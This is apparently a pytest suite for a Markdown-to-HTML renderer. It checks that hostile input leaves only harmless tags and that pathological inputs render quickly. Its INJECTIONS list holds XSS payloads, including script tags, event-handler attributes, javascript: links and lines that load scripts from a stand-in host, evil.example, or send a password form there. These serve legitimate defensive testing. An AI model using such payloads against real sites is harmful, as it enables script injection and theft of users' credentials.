"""Markdown: what people write comes out as they meant it, and nothing hostile comes out at all."""

from __future__ import annotations

import re
import time

import html5lib
import pytest

from app.web.markdown import LONGEST, render_markdown

INJECTIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form action=//evil.example><input name=password></form>",
    "<object data=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](&#106;avascript:alert)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example/"onmouseover="alert)',
    "[x](https://a.example '\"onclick=alert(1)')",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    '| a |\n|---|\n| <img src=x onerror="alert(1)"> |',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03<script>",
    "> <script>alert(1)</script>",
    '<p style="position:fixed">x</p>',
]
TAGS = {"p", "br", "strong", "em", "ul", "ol", "li", "a", "h3", "h4", "blockquote", "code", "pre", "hr"} | {
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_no_injection_leaves_more_than_harmless_tags(hostile: str) -> None:
    tree = html5lib.parseFragment(render_markdown(hostile), namespaceHTMLElements=False)
    for element in tree.iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in TAGS
        assert set(element.keys()) <= {"href", "rel", "class", "start"}
        assert re.match(r"(https?://|mailto:|/)", element.get("href", "/"))


HOSTILE_SHAPES = {
    "stars": "*" * LONGEST,
    "open brackets": "[" * LONGEST,
    "half links": "[a](" * (LONGEST // 4),
    "backticks": "`" * LONGEST,
    "backticks of every length": " ".join("`" * i for i in range(1, 199)),
    "quotations in quotations": ">" * LONGEST,
    "spaced quotations": "> " * (LONGEST // 2),
    "lists in lists": "- " * (LONGEST // 2) + "a",
    "starred lists in lists": "*  " * (LONGEST // 3) + "a",
    "numbers in numbers": "1. " * (LONGEST // 3) + "a",
    "lists in lists over lines": "".join(" " * (4 * i) + "- a\n" for i in range(95)),
    "steep lists over lines": "".join(" " * (18 * i) + "- " * 9 + "a\n" for i in range(33)),
    "underscores": "_a __b " * (LONGEST // 7),
    "emphases": "*a*" * (LONGEST // 3),
    "columns": "a|b\n-|-\n" + "|" * (LONGEST - 8),
    "backslashes": "\\`" * (LONGEST // 2),
    "empty lines": "\n" * LONGEST,
    "angle brackets": "<" * LONGEST,
    "references": "[a]: b\n" * (LONGEST // 7),
}


@pytest.mark.parametrize("shape", HOSTILE_SHAPES)
def test_a_hostile_shape_is_rendered_quickly(shape: str) -> None:
    began = time.process_time()
    render_markdown(HOSTILE_SHAPES[shape])
    assert time.process_time() - began < 2.5


def test_a_text_too_deep_for_the_parser_is_shown_as_it_was_written(monkeypatch: pytest.MonkeyPatch) -> None:
    def too_deep() -> None:
        raise RecursionError

    monkeypatch.setattr("app.web.markdown._engine", too_deep)
    assert render_markdown("so *deep* <b>") == '<p class="govuk-body">so *deep* &lt;b&gt;</p>'


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("*a* **b**", '<p class="govuk-body"><em>a</em> <strong>b</strong></p>'),
        ("a & b < c", '<p class="govuk-body">a &amp; b &lt; c</p>'),
        ("# a", '<h3 class="govuk-heading-m">a</h3>'),
        ("## a", '<h4 class="govuk-heading-s">a</h4>'),
        ("###### a", '<h4 class="govuk-heading-s">a</h4>'),
        ("- a\n- b", '<ul class="govuk-list govuk-list--bullet">\n<li>a</li>\n<li>b</li>\n</ul>'),
        ("3. a", '<ol class="govuk-list govuk-list--number" start="3">\n<li>a</li>\n</ol>'),
        ("a\n\n---\n\nb", '<p class="govuk-body">a</p>\n<hr>\n<p class="govuk-body">b</p>'),
        ("- - - - - - - - - - - -", "<hr>"),
        ("`a*b*`", '<p class="govuk-body"><code>a*b*</code></p>'),
    ],
)
def test_what_people_write_looks_as_they_meant_it(written: str, shown: str) -> None:
    assert render_markdown(written) == shown


def test_a_table_has_a_head_and_a_body() -> None:
    shown = render_markdown("group | errors\n----------- | -----------\nunder 25 | 4 %")
    assert '<table class="govuk-table">' in shown
    assert '<th class="govuk-table__header">group</th>' in shown
    assert '<td class="govuk-table__cell">4 %</td>' in shown


@pytest.mark.parametrize(
    "address", ["https://a.example/b?c=1&d=2", "http://a.example", "mailto:a@b.example", "/register"]
)
def test_a_link_leads_where_it_says(address: str) -> None:
    tree = html5lib.parseFragment(
        render_markdown(f"See [the *report*]({address})."), namespaceHTMLElements=False
    )
    link = next(tree.iter("a"))
    assert link.get("href") == address
    assert link.get("rel") == "noopener nofollow"
    assert "".join(link.itertext()) == "the report"


def test_code_in_an_address_makes_no_link() -> None:
    assert "<a" not in render_markdown("[x](/`y`)")


def test_a_text_is_rendered_once() -> None:
    assert render_markdown("kept *in mind*") is render_markdown("kept *in mind*")
